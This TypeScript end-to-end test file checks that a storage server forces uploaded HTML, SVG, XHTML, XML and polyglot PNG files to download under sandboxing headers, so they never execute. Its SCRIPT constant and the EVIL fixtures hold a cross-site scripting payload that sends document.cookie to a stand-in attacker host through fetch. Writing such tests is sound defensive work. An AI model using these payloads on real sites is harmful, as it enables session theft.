/** Uploads never run in a browser that opens them, whatever their content and name. */
import { mkdtemp, rm } from "node:fs/promises";
import type { Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { MediaFile } from "#core/contract/resources/media-file.ts";
import { createApi } from "#e2e/fixtures.ts";
import { makePng } from "#e2e/make-png.ts";
import { createObjectServer } from "#server/platform/storage/local/serve-objects.ts";
import { signAddress } from "#server/platform/storage/local/signed-address.ts";
import { expect, test } from "../fixtures.ts";
import { choose } from "./compose.ts";

const SCRIPT = "document.title = 'it ran'; fetch('https://evil.example/' + document.cookie)";
const EVIL: readonly (readonly [string, string])[] = [
  ["text/html", `<!doctype html><title>A page</title><script>${SCRIPT}</script>`],
  [
    "image/svg+xml",
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${SCRIPT}"><script>${SCRIPT}</script></svg>`,
  ],
  [
    "application/xhtml+xml",
    `<html xmlns="http://www.w3.org/1999/xhtml"><script>${SCRIPT}</script></html>`,
  ],
  ["text/xml", `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${SCRIPT}</x:script>`],
  ["application/pdf", "%PDF-1.4"],
];

const HEADERS = {
  "x-content-type-options": "nosniff",
  "content-security-policy": "default-src 'none'; sandbox",
  "referrer-policy": "no-referrer",
};

test.describe("stored files", () => {
  const secret = "a secret of this test";
  let folder: string;
  let server: Server;
  let origin: string;

  test.beforeAll(async () => {
    folder = await mkdtemp(join(tmpdir(), "crier-store-"));
    const now = () => new Date();
    const allowed_origin = "http://localhost";
    server = createObjectServer({ root: folder, secret, allowed_origin, now });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  test.afterAll(async () => {
    server.close();
    await rm(folder, { recursive: true });
  });

  for (const [content_type, content] of EVIL) {
    test(`are downloaded, not opened, if their type is ${content_type}`, async ({ page }) => {
      const key = `files/${content_type.replace("/", "-").replace("+", "-")}`;
      const expires = Math.ceil(Date.now() / 1000) + 60;
      const size = Buffer.byteLength(content);
      const signed = { key, expires, content_type };
      const to = signAddress(origin, secret, { ...signed, method: "PUT", size });
      const put = await fetch(to, {
        method: "PUT",
        headers: { "Content-Type": content_type },
        body: content,
      });
      expect(put.status).toBe(200);
      const address = signAddress(origin, secret, { ...signed, method: "GET" });
      const answer = await fetch(address);
      expect(Object.fromEntries(answer.headers)).toMatchObject({
        ...HEADERS,
        "content-disposition": "attachment",
      });
      const download = page.waitForEvent("download");
      await page.goto(address).catch(() => null);
      await download;
      // The same in a frame, as a script, and as an image of another page.
      await page.setContent(
        `<iframe src="${address}"></iframe><script src="${address}"></script><object data="${address}"></object>`,
      );
      await page.waitForLoadState("networkidle");
      expect(await page.title()).not.toBe("it ran");
      for (const frame of page.frames()) expect(await frame.title()).not.toBe("it ran");
    });
  }
});

test("an image with an appended HTML page is served only as an image", async ({ team }) => {
  const { page, organization, api_key } = team;
  const trailer = `<!doctype html><title>A page</title><script>${SCRIPT}</script>`;
  await page.goto(`/${organization.slug}/media`);
  await choose(page, makePng("both.png", { width: 320, height: 200, trailer }));
  await expect(page.getByText("PNG, 320 × 200", { exact: false })).toBeVisible();
  const { body } = await createApi(api_key).get<{ items: MediaFile[] }>("/files");
  const url = body.items[0]?.url ?? "";
  expect(new URL(url).origin).not.toBe(new URL(page.url()).origin);

  const answer = await fetch(url);
  expect(Object.fromEntries(answer.headers)).toMatchObject({
    ...HEADERS,
    "content-type": "image/png",
    "content-disposition": "inline",
  });
  const asPage = await fetch(url.replace("image%2Fpng", "text%2Fhtml"));
  expect(asPage.status).toBe(403);
  expect(asPage.headers.get("content-type")).toBe("application/json");

  await page.goto(url);
  expect(await page.title()).not.toMatch(/it ran|A page/);
  await page.goto("about:blank");
  await page.setContent(`<script src="${url}"></script>`);
  await page.waitForLoadState("networkidle");
  expect(await page.title()).not.toBe("it ran");
});
